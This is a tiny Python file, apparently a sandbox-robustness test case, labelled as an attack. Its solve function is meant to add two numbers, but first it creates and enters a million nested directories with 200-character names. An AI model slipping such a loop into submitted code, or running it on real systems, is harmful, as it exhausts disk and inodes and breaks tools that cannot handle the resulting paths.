# Attack: folders inside folders, deeper than a path can be written.
# task: add
import os


def solve(a, b):
    for _ in range(1_000_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return a + b
